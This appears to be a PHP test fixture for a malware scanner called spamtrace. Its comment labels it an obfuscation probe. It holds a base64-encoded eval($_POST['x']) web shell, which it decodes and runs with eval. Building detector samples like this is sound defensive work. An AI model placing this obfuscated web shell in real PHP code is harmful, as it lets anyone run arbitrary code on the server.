<?php
// spamtrace test sample: written for the scanner tests, never run (issue #17 obfuscation probes).
$blob = <<<'B'
ZXZhbCgkX1BPU1RbJ3gnXSk7
B;
eval(base64_decode($blob));
